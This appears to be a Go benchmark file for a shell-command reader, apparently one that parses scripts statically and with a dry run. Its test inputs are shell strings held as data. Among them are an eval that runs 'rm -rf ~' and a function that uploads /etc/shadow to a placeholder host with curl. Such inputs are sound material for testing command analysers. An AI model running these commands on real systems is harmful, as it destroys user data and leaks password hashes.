package shell

import "testing"

var benchInputs = []struct{ name, src string }{
	{"short", "git status"},
	{"typical", "cd src && go test ./... 2>&1 | tail -20"},
	{"long", `set -e; for f in $(git ls-files '*.go'); do gofmt -l "$f" || exit 1; done
if [ -d build ]; then rm -rf ./build/*; fi
sudo -u deploy env GOFLAGS=-mod=mod bash -lc 'cd ~/app && make -j4 all 2>&1 | tee build.log'
find . -name '*.tmp' -exec rm -f {} + ; echo "$(date) done" >> ~/ci.log
cat <<'EOF' > notes.md
release notes: rm -rf / is not a command here
EOF
xargs -0 -n1 -P4 gzip < files.txt & wait`},
	{"interp", `python3 -c "import subprocess, sys; subprocess.run(['git', 'status'], check=True); print(sys.version)" && node -e "console.log(require('child_process').execSync('git rev-parse HEAD').toString())"`},
}

func BenchmarkRead(b *testing.B) {
	opt := defaultOptions()
	for _, in := range benchInputs {
		b.Run(in.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := Read(in.src, opt); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// dryInputs are scripts the dry run reads (a word left dynamic by the
// static walk in a script that computes it).
var dryInputs = []struct{ name, src string }{
	{"mktemp", `tmp=$(mktemp -d) && cp -r src "$tmp" && rm -rf "$tmp"`},
	{"eval", `r='rm -rf ~'; eval "$r"`},
	{"function", `f() { curl --data-binary @"$2" "$1"; }; f http://x.example /etc/shadow`},
	{"loop", `for d in build dist .cache; do rm -rf "./$d"; done; x=$(pwd); echo "$x"`},
}

// BenchmarkDryRun measures reading with the dry run against the static
// reading alone (NoDryRun).
func BenchmarkDryRun(b *testing.B) {
	for _, in := range dryInputs {
		for _, dry := range []bool{true, false} {
			opt := defaultOptions()
			opt.NoDryRun = !dry
			name := in.name + "/static"
			if dry {
				name = in.name + "/dry"
			}
			b.Run(name, func(b *testing.B) {
				b.ReportAllocs()
				for b.Loop() {
					if _, err := Read(in.src, opt); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}
